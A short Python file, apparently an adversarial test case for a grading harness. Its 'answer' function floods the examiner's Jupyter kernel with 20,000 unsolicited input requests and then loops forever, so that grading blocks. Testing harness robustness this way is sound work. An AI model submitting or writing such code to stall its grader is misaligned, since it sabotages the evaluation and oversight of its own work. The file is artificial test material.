# Floods the examiner with questions in the middle of a call and never reads its replies, so that it may block.
# %% attack
from examinee.wire import pack


def answer(X):
    kernel = get_ipython().kernel
    parent, identity = kernel._asking
    frames = pack({"number": 0, "arguments": [], "options": {}}, lambda value: None)
    for _ in range(20_000):
        kernel.session.send(kernel.stdin_socket, "input_request", {}, parent=parent, ident=identity, buffers=frames)
    while True:
        pass


# %% attack answer gram_attention
gram_attention = answer
